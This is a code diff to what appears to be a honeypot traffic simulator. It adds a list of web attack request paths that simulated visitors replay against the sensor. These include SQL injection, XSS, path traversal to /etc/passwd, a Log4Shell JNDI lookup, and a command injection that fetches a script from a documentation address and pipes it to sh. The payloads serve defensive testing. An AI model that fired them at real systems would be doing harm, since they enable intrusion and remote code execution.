@@ -92,6 +92,26 @@ const mistakesUs: Deed = (visitor) => {
   });
 };
 
+const WEB: readonly string[] = [
+  "/item?id=1'+union+select+1,user(),3--",
+  '/search?q=<script>alert(1)</script>',
+  '/index.php?page=../../../../etc/passwd',
+  '/.env',
+  '/?x=${jndi:ldap://203.0.113.9/a}',
+  '/ping?host=127.0.0.1;wget+http://203.0.113.9/init.sh+-O-|sh',
+  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+  '/?name={{7*7}}',
+];
+
+/** Some come to the other door as well, from the address they use for Redis. */
+function attacksWeb(stage: Stage, address: string, random: Random): void {
+  const visitor = stage.visit(address, 32_768 + random.below(28_000), 'http', 'http');
+  for (let count = 1 + random.below(6); count > 0; count--) {
+    visitor.asks(WEB[random.below(WEB.length)] ?? '/');
+  }
+  visitor.leaves();
+}
+
 /** Deeds with how often they happen, of a hundred. */
 const DEEDS: readonly (readonly [number, Deed])[] = [
   [52, looksAround],
@@ -110,6 +130,7 @@ const NETWORKS = ['203.0.113.', '198.51.100.', '192.0.2.', '198.51.100.', '203.0
 /** Made-up visits from the stage's time on until `end`; all addresses are for documentation. */
 export async function playVisits(stage: Stage, end: number, everyMs: number): Promise<void> {
   const random = seededRandom(11);
+  const elsewhere = seededRandom(12);
   for (let count = 0; stage.clock.now() < end; count += 1) {
     const which = pick(random.below(100));
     const network = NETWORKS[which % NETWORKS.length] ?? '';
@@ -118,6 +139,7 @@ export async function playVisits(stage: Stage, end: number, everyMs: number): Pr
     const visitor = stage.visit(address, 32_768 + random.below(28_000), sensor);
     DEEDS[which]?.[1](visitor, random);
     visitor.leaves(40 + random.below(4_000));
+    if (elsewhere.below(6) === 0) attacksWeb(stage, address, elsewhere);
     // More in some hours than in others, as scanners have their own nights.
     const busy = 1 + Math.sin(count / 9) * 0.7;
     const gap = everyMs * busy * (0.2 + random.below(160) / 100);
